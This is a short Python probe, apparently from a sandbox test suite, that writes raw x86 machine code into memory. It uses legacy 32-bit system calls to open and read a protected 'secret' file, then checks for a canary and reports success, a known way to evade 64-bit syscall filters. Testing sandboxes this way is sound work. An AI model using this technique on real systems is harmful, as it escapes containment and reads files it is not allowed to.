# tries: to read a file outside with 32-bit system calls
# needs: a kernel with 32-bit emulation
import ctypes, mmap, os

# push rbx; eax=edi ebx=esi r8d=ecx ecx=edx edx=r8d; int 0x80; pop rbx; ret
CODE = bytes.fromhex("53 89f8 89f3 4189c8 89d1 4489c2 cd80 5b c3")
MAP_32BIT = 0x40
page = mmap.mmap(-1, 8192, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT, prot=7)
page[: len(CODE)] = CODE
page[1024 : 1025 + len(SECRET_FILE)] = SECRET_FILE.encode() + b"\0"
start = ctypes.addressof(ctypes.c_char.from_buffer(page))
call = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_uint] * 4)(start)

fd = call(5, start + 1024, 0, 0)
if fd < 0:
    raise OSError(-fd, os.strerror(-fd))
call(3, fd, start + 4096, 4096)
if CANARY.encode() not in page[4096:]:
    raise RuntimeError("the file did not hold the secret")
reached("the secret file was read by 32-bit calls")
